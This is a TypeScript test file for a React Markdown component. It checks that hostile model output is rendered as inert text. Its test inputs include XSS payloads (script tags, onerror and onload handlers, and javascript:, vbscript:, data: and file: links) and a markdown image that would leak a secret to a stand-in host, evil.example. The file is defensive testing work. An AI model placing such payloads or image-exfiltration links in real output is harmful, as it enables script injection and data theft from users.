import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown, RawText } from "./markdown";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

// Nothing that can run code, load a resource or carry an event handler may appear in the output.
// Only real tags are checked: hostile source shown as escaped text (`&lt;img onerror=…`) is the point.
function expectInert(html: string) {
  const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
  expect(tags.length).toBeGreaterThan(0);
  for (const tag of tags) {
    expect(tag).not.toMatch(/^<(script|img|iframe|svg|math|object|embed|video|audio|source|link|meta|style|form|base)\b/i);
    expect(tag).not.toMatch(/\son\w+=/i);
    expect(tag).not.toMatch(/\s(src|srcset|action|formaction|style)=/i);
    expect(tag).not.toMatch(/\shref="(?!https?:|mailto:)/i);
  }
}

describe("Markdown with hostile model output", () => {
  it("shows a <script> block as code, never as an element", () => {
    const html = render("<script>alert(1)</script>");
    expectInert(html);
    expect(html).toContain("<pre");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("shows inline HTML with an event handler as inline code", () => {
    const html = render("before <img src=x onerror=alert(1)> after");
    expectInert(html);
    expect(html).toMatch(/<p[^>]*>before <code[^>]*>&lt;img src=x onerror=alert\(1\)&gt;<\/code> after<\/p>/);
  });

  it("shows <svg onload>, <iframe> and HTML comments as visible text", () => {
    const cases = [
      ["<svg onload=alert(1)>", "&lt;svg onload=alert(1)&gt;"],
      ['<iframe src="https://evil.example">', "&lt;iframe src=&quot;https://evil.example&quot;&gt;"],
      ["<!-- hidden instruction -->", "&lt;!-- hidden instruction --&gt;"],
    ] as const;
    for (const [source, shown] of cases) {
      const html = render(source);
      expectInert(html);
      expect(html).toMatch(new RegExp(`<pre[^>]*><code[^>]*>${shown.replace(/[()]/g, "\\$&")}\n</code></pre>`));
    }
  });

  it.each([
    ["[click](javascript:alert(1))", "click"],
    ["[x](JAVASCRIPT:alert(1))", "x"],
    ["[x](  javascript:alert(1))", "x"],
    ["[x](vbscript:msgbox(1))", "x"],
    ["[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "x"],
    ["[x](file:///etc/passwd)", "x"],
    ["[x](/projects/1/settings)", "x"],
    ["[x](//evil.example/path)", "x"],
  ])("keeps the text of %s but renders no link", (source, label) => {
    const html = render(source);
    expectInert(html);
    expect(html).not.toContain("<a");
    expect(html).not.toContain("href");
    expect(html).toContain(`<span>${label}</span>`);
  });

  it("shows a remote image as its alt text and URL, with no element that could fetch it", () => {
    const html = render("![exfil](https://evil.example/p.png?secret=1)");
    expectInert(html);
    expect(html).toContain("[image: exfil] https://evil.example/p.png?secret=1");
    expect(html.match(/evil\.example/g)).toHaveLength(1);
  });

  it("shows a reference-style image as text too", () => {
    const html = render("![a][r]\n\n[r]: https://evil.example/x.png");
    expectInert(html);
    expect(html).toContain("[image: a] https://evil.example/x.png");
  });

  it("shows a data: image without its payload", () => {
    const html = render("![pixel](data:image/png;base64,iVBORw0KGgo=)");
    expectInert(html);
    expect(html).toContain("[image: pixel]");
    expect(html).not.toContain("iVBORw0KGgo");
  });

  it("escapes HTML hidden inside a code block instead of rendering it", () => {
    const html = render("```\n<script>alert(1)</script>\n```");
    expectInert(html);
    expect(html).toContain("&lt;script&gt;");
  });
});

describe("Markdown with ordinary model output", () => {
  it("opens an https link in a new tab without referrer or opener", () => {
    expect(render("[docs](https://ok.example/a?b=1)")).toContain(
      '<a href="https://ok.example/a?b=1" target="_blank" rel="noopener noreferrer nofollow"',
    );
  });

  it("turns an autolink and a bare www address into safe links", () => {
    expect(render("<https://ok.example>")).toMatch(
      /<a href="https:\/\/ok\.example\/" target="_blank" rel="noopener noreferrer nofollow"[^>]*>https:\/\/ok\.example<\/a>/,
    );
    expect(render("see www.example.com")).toContain('<a href="http://www.example.com/" target="_blank"');
  });

  it("renders a fenced code block as <pre><code> and inline code as <code>", () => {
    const html = render("```ts\nconst a = 1;\n```\n\nuse `a`");
    expect(html).toMatch(/<pre[^>]*><code[^>]*language-ts[^>]*>const a = 1;\n<\/code><\/pre>/);
    expect(html).toMatch(/use <code[^>]*>a<\/code>/);
  });

  it("renders a GFM table, lists, headings, blockquotes and emphasis", () => {
    const html = render(
      "# Title\n\n> quoted\n\n- one\n- **two**\n\n1. *first*\n\n~~gone~~\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
    );
    expect(html).toMatch(/<h3[^>]*>Title<\/h3>/);
    expect(html).toMatch(/<blockquote[^>]*>\s*<p[^>]*>quoted<\/p>\s*<\/blockquote>/);
    expect(html).toMatch(/<ul[^>]*>\s*<li[^>]*>one<\/li>\s*<li[^>]*><strong>two<\/strong><\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol[^>]*>\s*<li[^>]*><em>first<\/em><\/li>\s*<\/ol>/);
    expect(html).toContain("<del>gone</del>");
    expect(html).toMatch(/<table[^>]*><thead><tr><th[^>]*>a<\/th><th[^>]*>b<\/th><\/tr><\/thead><tbody><tr><td[^>]*>1<\/td><td[^>]*>2<\/td><\/tr><\/tbody><\/table>/);
  });

  it("passes the caller's class name to the wrapper", () => {
    expect(renderToStaticMarkup(createElement(Markdown, { text: "x", className: "mt-4" }))).toMatch(/^<div class="[^"]*\bmt-4"/);
  });
});

describe("RawText", () => {
  it("shows the exact source, HTML included, as wrapped preformatted text", () => {
    expect(renderToStaticMarkup(createElement(RawText, { text: "a <b>\n![x](https://evil.example/p.png)" }))).toBe(
      '<pre class="whitespace-pre-wrap font-mono text-sm text-slate-900 break-words">a &lt;b&gt;\n![x](https://evil.example/p.png)</pre>',
    );
  });

  it("breaks anywhere when asked (a long unbroken run), still as exact text", () => {
    expect(renderToStaticMarkup(createElement(RawText, { text: "<x>", breakAnywhere: true }))).toBe('<pre class="whitespace-pre-wrap font-mono text-sm text-slate-900 break-all">&lt;x&gt;</pre>');
  });
});
